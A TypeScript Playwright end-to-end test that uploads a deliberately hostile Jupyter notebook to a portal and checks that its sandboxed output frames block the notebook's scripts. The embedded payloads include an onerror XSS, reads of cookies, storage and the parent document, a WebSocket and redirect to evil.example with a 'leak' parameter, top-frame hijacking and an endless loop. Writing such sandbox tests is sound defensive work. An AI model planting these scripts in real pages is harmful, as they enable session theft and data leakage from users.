import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { RouteOutput, Routes } from '../../shared/contract/api.ts';
import { launchBrowser, openPage } from './browser.ts';
import { eventually, expectAccessible } from './expectations.ts';
import { startLocalStack, type LocalStack } from './local-stack.ts';

/** What a hostile script tries; each entry says what came of it. */
const ATTEMPTS = `
  const attempt = async (name, act) => {
    let result;
    try { result = await act(); } catch (error) { result = 'refused: ' + error.name; }
    const line = document.createElement('li');
    line.textContent = name + ': ' + result;
    document.getElementById('log').append(line);
  };
  const image = (src) => new Promise((resolve) => {
    const element = new Image();
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('refused: error');
    element.src = src;
  });
  (async () => {
    await attempt('origin', () => self.origin);
    await attempt('cookie', () => document.cookie);
    await attempt('storage', () => localStorage.length);
    await attempt('database', () => indexedDB.open('x') && 'opened');
    await attempt('parent document', () => parent.document.title);
    await attempt('parent address', () => parent.location.href);
    await attempt('API', () => fetch('/api/me').then((answer) => answer.status));
    await attempt('portal', () => fetch(TARGET + '/api/me', { credentials: 'include' }).then((answer) => answer.status));
    await attempt('image', () => image(TARGET + '/favicon.ico'));
    await attempt('socket', () => new WebSocket('wss://evil.example/') && 'opened');
    await attempt('beacon', () => navigator.sendBeacon(TARGET + '/api/me', 'x') && 'sent');
    await attempt('popup', () => open(TARGET) === null ? 'refused: null' : 'opened');
    await attempt('top', () => { top.location.href = 'https://evil.example/'; return 'asked'; });
    await attempt('form', () => { document.forms[0].submit(); return 'asked'; });
    document.getElementById('log').dataset.done = 'yes';
  })();`;

const notebook = (url: string) => ({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
  cells: [
    `<p style="color: rgb(1, 2, 3)">still</p><img alt="" src="x" onerror="document.title = 'owned'">`,
    `<ul id="log"></ul><form action="${url}/api/me" method="post"></form><script>const TARGET = '${url}';${ATTEMPTS}</script>`,
    `<p>going</p><script>location.href = 'https://evil.example/?leak=1';</script>`,
    `<p>home</p><script>location.href = '${url}/api/me';</script>`,
    `<p>growing</p><script>setInterval(() => parent.postMessage({ height: 1e9 }, '*'));</script>`,
    `<p>busy</p><script>for (;;);</script>`,
  ].map((html, at) => ({
    cell_type: 'code',
    id: `c${at}`,
    metadata: {},
    source: `show(${at})`,
    execution_count: at + 1,
    outputs: [{ output_type: 'display_data', metadata: {}, data: { 'text/html': html } }],
  })),
});

describe('what a notebook wrote as HTML', () => {
  let stack: LocalStack;
  let browser: Browser;
  let page: Page;

  const post = async <Output>(path: string, data: object): Promise<Output> => {
    const response = await page.context().request.post(`${stack.url}${path}`, { data });
    if (!response.ok()) throw new Error(`${path} answered ${response.status()}: ${await response.text()}`);
    return (await response.json()) as Output;
  };
  const output = (at: number) => page.locator('.atmo-outputs').nth(at);
  /** The frame of an output, run at the person's wish. */
  const run = async (at: number): Promise<Frame> => {
    await output(at).scrollIntoViewIfNeeded();
    await output(at).getByRole('button', { name: 'Run it' }).click();
    await output(at).getByRole('button', { name: 'Stop it' }).waitFor();
    const frame = await (await output(at).locator('iframe').elementHandle())?.contentFrame();
    if (frame === null || frame === undefined) throw new Error('There is no frame.');
    return frame;
  };

  beforeAll(async () => {
    [stack, browser] = await Promise.all([startLocalStack(), launchBrowser()]);
    ({ page } = await openPage(browser));
    await page.goto(stack.url);
    await page.getByRole('link', { name: 'Sign in' }).click();
    await page.getByRole('button', { name: /alice@example\.com/ }).click();
    await page.getByRole('heading', { name: 'Dashboard' }).waitFor();
    const file = Buffer.from(JSON.stringify(notebook(stack.url)));
    const upload = await post<RouteOutput<Routes['createNotebookUpload']>>('/api/notebook-uploads', {
      fileName: 'hostile.ipynb',
      size: file.length,
    });
    const form = { name: 'hostile.ipynb', mimeType: 'application/json', buffer: file };
    await page.context().request.post(upload.url, { multipart: { ...upload.fields, file: form } });
    await post('/api/spark-jobs', {
      identifier: 'hostile',
      notebookUploadId: upload.uploadId,
      description: 'It wants more than to be read.',
      emrRelease: '7.10.0',
      schedule: { type: 'cron', expression: '0 6 * * ? *', timeZone: 'UTC' },
    });
  }, 180_000);
  afterAll(async () => {
    await browser?.close();
    await stack?.stop();
  });

  it('is shown at once with its look, and without its scripts', async () => {
    await page.goto(`${stack.url}/spark-jobs/hostile?tab=notebook`);
    const still = page.frameLocator('.atmo-frame >> nth=0').getByText('still');
    await still.waitFor();
    expect(await still.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
    await expectAccessible(page);
    expect(await page.title()).not.toBe('owned');
    expect(await page.frameLocator('.atmo-frame >> nth=1').getByRole('listitem').count()).toBe(0);
  });

  it('runs when it is asked for, and reaches neither the portal nor the network', async () => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const before = page.url();
    const frame = await run(1);
    await frame.locator('#log[data-done]').waitFor();
    expect(await frame.locator('li').allTextContents()).toEqual([
      'origin: null',
      'cookie: refused: SecurityError',
      'storage: refused: SecurityError',
      'database: refused: SecurityError',
      'parent document: refused: SecurityError',
      'parent address: refused: SecurityError',
      'API: refused: TypeError',
      'portal: refused: TypeError',
      'image: refused: error',
      expect.stringMatching(/^socket: /),
      expect.stringMatching(/^beacon: /),
      'popup: refused: null',
      'top: refused: SecurityError',
      'form: asked',
    ]);
    expect(page.url()).toBe(before);
    expect(page.context().pages()).toHaveLength(1);
    expect(asked.filter((url) => url.includes('evil') || url.includes('/api/me') || url.includes('favicon'))).toEqual(
      [],
    );
  });

  it('leads its frame nowhere', async () => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await run(2);
    await run(3);
    await eventually(async () => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
    expect(asked.filter((url) => url.includes('evil'))).toEqual([]);
    for (const frame of page.frames().slice(1)) expect(await frame.content()).not.toContain('alice');
  });

  it('can take no more of the page than a screen', async () => {
    await run(4);
    await eventually(async () => (await output(4).locator('iframe').boundingBox())?.height).toBe(900);
  });

  it('does not hold up the page when it never ends', async () => {
    await run(5);
    await page.getByRole('button', { name: 'Fold outputs' }).click();
    await page.getByRole('tab', { name: 'Runs' }).click();
    await page.getByText('No runs yet').waitFor();
  });
});
